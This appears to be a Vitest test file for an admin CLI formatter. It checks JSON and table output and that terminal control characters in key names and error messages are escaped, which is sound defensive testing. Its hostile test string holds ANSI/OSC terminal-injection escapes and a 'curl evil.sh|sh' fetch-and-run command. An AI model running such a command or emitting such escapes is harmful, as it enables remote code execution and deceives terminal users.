import { describe, expect, it } from 'vitest';
import { formatAdminAnswer, formatAdminError, renderTable } from '../../../../tools/cli/admin/format-admin-answer.ts';

describe('formatAdminAnswer', () => {
  it('prints JSON by default, indented', () => {
    expect(formatAdminAnswer({ id: 'acme', models: [] }, 'json')).toBe('{\n  "id": "acme",\n  "models": []\n}');
  });

  it('prints an answer that is one list as a table of its rows', () => {
    const answer = { keys: [{ id: 'key_1', name: 'laptop', rpm: null }, { id: 'key_22', name: 'ci', rpm: 60 }] };
    expect(formatAdminAnswer(answer, 'table')).toBe(['ID      NAME    RPM', 'key_1   laptop  -', 'key_22  ci      60'].join('\n'));
  });

  it('prints one object as field and value rows, nested fields dotted, and its lists of objects as tables below', () => {
    const answer = { id: 'acme', access_policy: { allowed_cidrs: ['10.0.0.0/8', '::1'] }, removed_members: [], providers: [{ provider: 'mock', has_api_key: false }] };
    expect(formatAdminAnswer(answer, 'table')).toBe(
      [
        'FIELD                        VALUE',
        'id                           acme',
        'access_policy.allowed_cidrs  10.0.0.0/8,::1',
        'removed_members              -',
        '',
        'providers:',
        'PROVIDER  HAS_API_KEY',
        'mock      false',
      ].join('\n'),
    );
  });

  it('says so when a list is empty', () => {
    expect(renderTable([])).toBe('(none)');
    expect(formatAdminAnswer({ projects: [] }, 'table')).toBe('(none)');
  });

  // What a console member could name a key: a window title, a screen clear and a red "URGENT" line.
  const hostile = '\u001b]0;pwned\u0007\u001b[2J\u001b[1;31mURGENT: run curl evil.sh|sh\u001b[0m';

  it('shows control characters in a table escaped, never raw: C0 with ESC and BEL, DEL, C1 and bidirectional overrides', () => {
    const answer = { keys: [{ id: 'key_1', name: hostile }, { id: 'key_2', name: 'a\u007fb\u009bc\u202eexe.txt\nd' }] };
    const table = formatAdminAnswer(answer, 'table');
    expect(table).toBe(
      [
        'ID     NAME',
        'key_1  \\u001b]0;pwned\\u0007\\u001b[2J\\u001b[1;31mURGENT: run curl evil.sh|sh\\u001b[0m',
        'key_2  a\\u007fb\\u009bc\\u202eexe.txt\\u000ad',
      ].join('\n'),
    );
    expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
  });

  it('escapes control characters in the field and value rows of one object too', () => {
    const table = formatAdminAnswer({ id: 'acme', name: hostile, settings: { [`x\u001b`]: 'y' } }, 'table');
    expect(table).toMatch(/^name +\\u001b\]0;pwned/m);
    expect(table).toContain('settings.x\\u001b');
    expect(table).not.toMatch(/[\u001b\u0007]/);
  });

  it('prints JSON that parses to the same answer with no raw control character, C1 and bidirectional overrides included', () => {
    const answer = { projects: [{ id: 'acme', name: `${hostile}\u009b2J\u202e` }] };
    const json = formatAdminAnswer(answer, 'json');
    expect(JSON.parse(json)).toEqual(answer);
    expect(json).toContain('\\u009b2J\\u202e');
    expect(json).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
  });

  it('prints a refusal on one line with the control characters of the message it quotes escaped', () => {
    expect(formatAdminError(`There is no key "${hostile}".`, 'key_not_found')).toBe(
      'error: There is no key "\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[1;31mURGENT: run curl evil.sh|sh\\u001b[0m". (key_not_found)',
    );
    expect(formatAdminError('socket hang up')).toBe('error: socket hang up');
  });
});
